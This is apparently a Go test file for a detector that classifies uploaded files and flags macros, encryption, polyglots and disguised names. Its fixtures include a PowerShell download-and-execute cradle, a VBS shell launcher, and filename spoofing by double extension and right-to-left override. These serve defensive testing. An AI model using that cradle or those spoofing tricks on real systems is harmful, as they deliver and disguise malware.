package detect

import (
	"archive/zip"
	"bytes"
	"encoding/binary"
	"strings"
	"testing"

	"mugai/policy"
)

// buildZip writes a zip with the given members; encrypted sets the flag bit
// on every member (the bytes are not really encrypted: the flag is what
// readers and we act on).
func buildZip(t testing.TB, encrypted bool, members ...string) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for i := 0; i+1 < len(members); i += 2 {
		h := &zip.FileHeader{Name: members[i], Method: zip.Deflate}
		if encrypted {
			h.Flags |= 0x1
		}
		w, err := zw.CreateHeader(h)
		if err != nil {
			t.Fatal(err)
		}
		w.Write([]byte(members[i+1]))
	}
	zw.Close()
	return buf.Bytes()
}

func pe() []byte {
	b := make([]byte, 0x80)
	copy(b, "MZ")
	binary.LittleEndian.PutUint32(b[0x3C:], 0x40)
	copy(b[0x40:], "PE\x00\x00")
	return b
}

const contentTypes = `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`
const macroContentTypes = `<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>`

func TestDetect(t *testing.T) {
	docx := buildZip(t, false, "[Content_Types].xml", contentTypes, "word/document.xml", "<w:document/>")
	docm := buildZip(t, false, "[Content_Types].xml", macroContentTypes, "word/document.xml", "<w:document/>", "word/vbaProject.bin", "VBA")
	iso := make([]byte, 40000)
	copy(iso[32769:], "CD001")
	tests := []struct {
		name     string
		data     []byte
		declared string
		names    []string
		typ      string
		flags    []policy.Flag
	}{
		// honest files
		{"pdf", []byte("%PDF-1.7\n1 0 obj<<>>endobj\n%%EOF"), "application/pdf", []string{"a.pdf"}, TypePDF, nil},
		{"docx", docx, TypeDOCX, []string{"報告.docx"}, TypeDOCX, nil},
		{"docx declared as msword", docx, "application/msword", []string{"a.docx"}, TypeDOCX, nil},
		{"plain zip", buildZip(t, false, "a.txt", "x"), "application/x-zip-compressed", []string{"a.zip"}, TypeZIP, nil},
		{"csv", []byte("name,qty\nりんご,10\nみかん,20\n"), "text/csv", []string{"a.csv"}, TypeCSV, nil},
		{"text starting with MZ", []byte("MZ is not a header here, just text.\n"), "text/plain", []string{"a.txt"}, TypeText, nil},
		// what mimetype misses
		{"docm named docm", docm, TypeDOCM, []string{"a.docm"}, TypeDOCM, []policy.Flag{policy.FlagMacro}},
		{"encrypted zip (PPAP)", buildZip(t, true, "a.pdf", "x"), "application/zip", []string{"a.zip"}, TypeZIP, []policy.Flag{policy.FlagEncrypted}},
		{"iso image", iso, "application/octet-stream", []string{"a.iso"}, TypeISO, nil},
		{"hta", []byte("<html><head><HTA:APPLICATION id=x></head></html>"), "", []string{"a.hta"}, TypeHTA, nil},
		{"vbs", []byte("Dim s\nSet s = CreateObject(\"WScript.Shell\")\ns.Run \"calc\"\n"), "", []string{"a.vbs"}, TypeVBS, nil},
		{"powershell", []byte("$c = New-Object Net.WebClient; IEX ($c.DownloadString('http://x'))"), "", []string{"a.ps1"}, TypePowerShell, nil},
		{"encrypted pdf", []byte("%PDF-1.6\ntrailer<</Encrypt 5 0 R>>"), "application/pdf", []string{"a.pdf"}, TypePDF, []policy.Flag{policy.FlagEncrypted}},
		// disguised files
		{"exe named pdf", pe(), "application/pdf", []string{"invoice.pdf"}, TypePE, []policy.Flag{policy.FlagDisguised}},
		{"double extension", pe(), "application/octet-stream", []string{"invoice.pdf.exe"}, TypePE, []policy.Flag{policy.FlagDisguised}},
		{"rlo", pe(), "", []string{"invoice\u202efdp.exe"}, TypePE, []policy.Flag{policy.FlagDisguised}},
		{"trailing dots", []byte("%PDF-1.4\n"), "", []string{"a.pdf. . "}, TypePDF, []policy.Flag{policy.FlagDisguised}},
		{"docm named docx", docm, TypeDOCX, []string{"a.docx"}, TypeDOCM, []policy.Flag{policy.FlagMacro, policy.FlagDisguised}},
		{"html named txt", []byte("<html><body><script>x()</script></body></html>"), "text/plain", []string{"a.txt"}, TypeHTML, []policy.Flag{policy.FlagDisguised}},
		{"pdf zip polyglot", append([]byte("%PDF-1.4\n"), buildZip(t, false, "a.exe", "MZ")...), "application/pdf", []string{"a.pdf"}, TypePDF, []policy.Flag{policy.FlagPolyglot}},
		{"name and filename disagree", []byte("%PDF-1.4\n"), "application/pdf", []string{"a.pdf", "a.exe"}, TypePDF, []policy.Flag{policy.FlagDisguised}},
	}
	for _, tc := range tests {
		r := Detect(tc.data, tc.declared, tc.names)
		if r.Type != tc.typ {
			t.Errorf("%s: type %s, want %s", tc.name, r.Type, tc.typ)
		}
		for _, f := range tc.flags {
			if !r.Has(f) {
				t.Errorf("%s: lacks flag %s (%v)", tc.name, f, r.Detail)
			}
		}
		if len(tc.flags) == 0 && len(r.Flags) > 0 {
			t.Errorf("%s: unexpected flags %v: %s", tc.name, r.Flags, strings.Join(r.Detail, "; "))
		}
	}
}

func FuzzDetect(f *testing.F) {
	f.Add([]byte("%PDF-1.4"), "a.pdf")
	f.Add([]byte("PK\x03\x04"), "a.docx")
	f.Add([]byte{0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1}, "a.doc")
	f.Fuzz(func(t *testing.T, data []byte, name string) {
		r := Detect(data, "", []string{name})
		if r.Type == "" {
			t.Fatal("empty type")
		}
	})
}
